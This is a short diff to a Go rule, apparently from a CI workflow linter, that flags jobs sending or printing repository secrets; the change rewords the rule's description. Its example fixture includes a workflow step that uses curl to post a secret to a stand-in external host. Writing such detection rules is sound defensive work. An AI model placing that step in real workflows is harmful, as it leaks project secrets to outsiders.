@@ -15,7 +15,7 @@ import (
 var secretLeaves = &Rule{
 	ID: "umpire/workflow/secret-leaves", Severity: finding.Medium, CWE: "CWE-200",
 	Title:  "A job sends or prints a secret",
-	Text:   "The script sends a secret of the repository to another host, or prints it. Who adds such a script gets the secret once the job runs. ",
+	Text:   "The script sends a secret of the repository to another host, or prints it. The author of the change gets the secret once the job runs. ",
 	Remedy: "Give the secret only to the program that needs it, in a header or by its standard input, and use https.",
 	Hits: []Example{
 		{".github/workflows/x.yml", "on: push\njobs:\n  a:\n    steps:\n    - run: curl -d '${{ secrets.X }}' https://e.example/\n"},
